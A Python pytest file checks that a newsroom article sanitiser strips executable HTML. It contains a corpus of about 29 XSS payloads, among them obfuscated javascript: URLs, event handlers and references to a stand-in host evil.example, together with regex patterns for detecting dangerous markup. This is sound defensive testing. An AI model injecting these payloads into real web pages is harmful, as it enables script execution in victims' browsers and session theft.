"""XSS corpus: nothing executable survives normalise(), whatever form the newsroom sends it in."""

from __future__ import annotations

import re

import pytest

from shared.article import normalise
from shared.models import ArticleIn

XSS_CORPUS = [
    "<script>alert('xss1')</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert('xss2')>",
    '<p onclick="alert(1)" onmouseover=alert(2)>klik</p>',
    '<a href="javascript:alert(3)">tautan</a>',
    '<a href="JaVaScRiPt:alert(4)">tautan</a>',
    '<a href="jav&#x09;ascript:alert(5)">tautan</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(6)">x</a>',
    '<svg onload=alert(7)><circle r="1"/></svg>',
    "<svg><script>alert(8)</script></svg>",
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(9)</script>"></iframe>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxMCk8L3NjcmlwdD4=">data</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(11)>">',
    '<p style="background:url(javascript:alert(12))">gaya</p>',
    '<div style="width: expression(alert(13))">ekspresi</div>',
    "<style>body{background:url(javascript:alert(14))}</style>",
    '<object data="evil.swf"></object><embed src="evil.swf">',
    '<form action="https://evil.example"><input autofocus onfocus=alert(15)></form>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(16)>",
    "<body onload=alert(17)>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(18)">',
    '<base href="javascript:alert(19)//">',
    "<details open ontoggle=alert(20)>",
    '"><script>alert(21)</script>',
    "<<script>script>alert(22)<</script>/script>",
    "<img src=`javascript:alert(23)`>",
    '<a href=" javascript:alert(24)">spasi</a>',
    '<link rel="stylesheet" href="javascript:alert(25)">',
]

_DANGEROUS = [
    re.compile(p, re.I)
    for p in (
        r"<\s*script",
        r"<\s*(iframe|object|embed|svg|math|style|form|input|meta|base|link|body|details)\b",
        r"\son[a-z]+\s*=",
        # A URL attribute must not start with an executable scheme; the same text inside a relative
        # URL (src="`javascript:…`") is inert, as the browser resolves it against the page.
        r"""(href|src|action|formaction)\s*=\s*["']?\s*(javascript|vbscript|data):""",
        r"expression\s*\(",
        r"style\s*=",
        r"srcdoc",
    )
]


def _assert_safe(html: str) -> None:
    for pattern in _DANGEROUS:
        assert not pattern.search(html), f"{pattern.pattern!r} survived in {html!r}"


@pytest.mark.parametrize("payload", XSS_CORPUS)
def test_html_body_is_sanitised(payload: str) -> None:
    article = ArticleIn(external_id="x1", title="Judul", body=f"<p>Awal</p>{payload}<p>Akhir</p>")
    html = normalise(newsroom="n", article=article, version=1).body_html
    _assert_safe(html)
    assert "Awal" in html


@pytest.mark.parametrize("payload", XSS_CORPUS)
def test_plain_paragraphs_are_escaped(payload: str) -> None:
    article = ArticleIn(external_id="x1", title="Judul", body_paragraphs=["Awal", payload])
    html = normalise(newsroom="n", article=article, version=1).body_html
    assert not re.search(r"<\s*(script|iframe|svg|img|a)\b", html, re.I)


def test_safe_markup_survives() -> None:
    body = '<p>Teks <strong>tebal</strong> dan <a href="https://kabar.id/x">tautan</a>.</p><ul><li>satu</li></ul>'
    html = normalise(newsroom="n", article=ArticleIn(external_id="x", title="t", body=body), version=1).body_html
    assert "<strong>tebal</strong>" in html
    assert 'href="https://kabar.id/x"' in html
    assert "<li>satu</li>" in html
